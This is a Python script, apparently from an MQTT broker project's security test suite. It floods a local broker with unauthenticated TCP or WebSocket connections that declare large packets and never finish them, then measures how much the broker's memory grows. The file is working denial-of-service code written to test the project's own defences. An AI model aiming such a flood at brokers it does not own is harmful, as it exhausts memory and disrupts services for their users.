#!/usr/bin/env python3
"""Unauthenticated-buffering attack (docs/security.md, "Attacks").

Opens N connections that each start a packet the broker must buffer before
the client has logged in, and never finish it:

  tcp: a CONNECT declaring SIZE bytes, of which SIZE - 1 are sent;
  ws:  a WebSocket upgrade, then a non-final binary frame declaring SIZE
       bytes, of which SIZE - 1 are sent.

Prints the broker's resident memory (VmRSS of --pid) before and after, and
how many connections the broker had closed by then. The connections are
held until the broker's connect timeout closes them or the script ends.

    python3 scripts/attacks/connect_flood.py --pid $(pidof tern) --port 1883 \
        --kind tcp --conns 300 --size 1000000
"""
import argparse
import base64
import os
import socket
import struct
import sys
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
from mqtt_wire import varint  # noqa: E402  (scripts/, beside this folder)


def rss_kib(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    raise SystemExit(f"no VmRSS for pid {pid}")


def start_tcp(port, size):
    s = socket.create_connection(("127.0.0.1", port))
    s.sendall(b"\x10" + varint(size))
    return s


def start_ws(port, size):
    s = socket.create_connection(("127.0.0.1", port))
    key = base64.b64encode(os.urandom(16)).decode()
    s.sendall((f"GET /mqtt HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nConnection: Upgrade\r\n"
               f"Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: {key}\r\n"
               "Sec-WebSocket-Protocol: mqtt\r\n\r\n").encode())
    head = b""
    while b"\r\n\r\n" not in head:
        chunk = s.recv(4096)
        if not chunk:
            raise SystemExit("the broker closed the WebSocket upgrade")
        head += chunk
    # Binary, not final, masked (mask 0), 64-bit length.
    s.sendall(bytes([0x02, 0x80 | 127]) + struct.pack(">Q", size) + b"\0\0\0\0")
    return s


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--pid", type=int, required=True, help="the broker's process id")
    ap.add_argument("--port", type=int, default=1883)
    ap.add_argument("--kind", choices=["tcp", "ws"], default="tcp")
    ap.add_argument("--conns", type=int, default=300)
    ap.add_argument("--size", type=int, default=1_000_000, help="declared packet or frame size")
    ap.add_argument("--settle-secs", type=float, default=2.0)
    a = ap.parse_args()

    before = rss_kib(a.pid)
    start = start_tcp if a.kind == "tcp" else start_ws
    socks, closed = [], 0
    body = b"\0" * (a.size - 1)
    for _ in range(a.conns):
        try:
            s = start(a.port, a.size)
            s.settimeout(5)
            s.sendall(body)
            socks.append(s)
        except OSError:
            closed += 1
    time.sleep(a.settle_secs)
    after = rss_kib(a.pid)
    for s in socks:
        s.setblocking(False)
        try:
            if s.recv(1) == b"":
                closed += 1
        except BlockingIOError:
            pass
        except OSError:
            closed += 1
    print(f"{a.kind}: {a.conns} connections x {a.size} bytes: broker RSS {before / 1024:.0f} MiB "
          f"-> {after / 1024:.0f} MiB (+{(after - before) / 1024:.0f} MiB); "
          f"{closed} closed by the broker")
    for s in socks:
        s.close()


if __name__ == "__main__":
    main()
